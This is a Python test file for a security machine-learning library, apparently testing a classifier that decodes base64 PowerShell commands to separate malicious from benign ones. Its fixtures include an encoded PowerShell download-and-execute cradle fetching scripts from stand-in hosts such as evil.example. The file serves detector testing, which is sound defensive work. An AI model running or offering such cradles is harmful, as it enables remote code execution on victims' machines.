"""viewed.v1: the teacher reads the decoded view (privileged information), the bundle remembers which."""

from __future__ import annotations

import base64
import json

import numpy as np
import pytest

from distilsec.bundle import load_model
from distilsec.errors import BundleError, ConfigError
from distilsec.teachers.viewed import ViewedModel, with_view

PAYLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"


def _enc(script: str) -> str:
    return "powershell.exe -NoP -enc " + base64.b64encode(script.encode("utf-16-le")).decode()


def _data() -> tuple[list[str], list[str]]:
    bad = [_enc(PAYLOAD.replace("a.ps1", f"{i}.ps1")) for i in range(20)]
    good = [_enc(f"Get-ChildItem C:\\Users\\u{i} | Sort-Object Length") for i in range(20)]
    return bad + good, ["malicious"] * 20 + ["benign"] * 20


def test_the_wrapped_model_sees_the_view_and_separates_what_only_decoding_shows(tmp_path):
    x, y = _data()
    model = ViewedModel(view="decoded.v1", model={"type": "hashed_linear.v1", "n_features": 2**12, "epochs": 5})
    model.fit(x, y)
    unseen_bad = _enc("IEX (New-Object Net.WebClient).DownloadString('http://other.example/b.ps1')")
    unseen_good = _enc("Get-ChildItem C:\\Temp | Sort-Object Length")
    p = model.predict_proba([unseen_bad, unseen_good])[:, model.classes_.index("malicious")]
    assert p[0] > p[1]
    loaded = load_model(model.save(tmp_path / "m"))
    assert isinstance(loaded, ViewedModel) and loaded.view == "decoded.v1"
    np.testing.assert_allclose(loaded.predict_proba(x), model.predict_proba(x), rtol=1e-6)


def test_unknown_view_is_a_config_error_before_training():
    with pytest.raises(ConfigError, match="decoded.v1"):
        ViewedModel(view="decoded.v9", model={"type": "hashed_linear.v1"}).fit(["a", "b"], ["x", "y"])


def test_a_bundle_naming_an_unknown_view_is_refused(tmp_path):
    x, y = _data()
    path = (
        ViewedModel(model={"type": "hashed_linear.v1", "n_features": 2**10, "epochs": 1}).fit(x, y).save(tmp_path / "m")
    )
    manifest = json.loads((path / "manifest.json").read_text())
    manifest["params"]["view"] = "decoded.v99"
    (path / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises((ConfigError, BundleError)):
        load_model(path)


def test_with_view_is_config_sugar():
    assert with_view("hashed_linear.v1", {"epochs": 2}) == ("hashed_linear.v1", {"epochs": 2})
    kind, params = with_view("hashed_linear.v1", {"epochs": 2, "view": "decoded.v1"})
    assert kind == "viewed.v1" and params["model"] == {"type": "hashed_linear.v1", "epochs": 2}


def test_check_views_finds_a_typo_in_a_nested_member_before_anything_runs():
    from distilsec.teachers.viewed import check_views

    check_views({"type": "ensemble.v1", "members": [{"type": "hashed_linear.v1", "view": "decoded.v1"}]})
    with pytest.raises(ConfigError, match="decoded.v9"):
        check_views(
            {"type": "ensemble.v1", "members": [{"type": "x.v1"}, {"type": "hashed_linear.v1", "view": "decoded.v9"}]}
        )
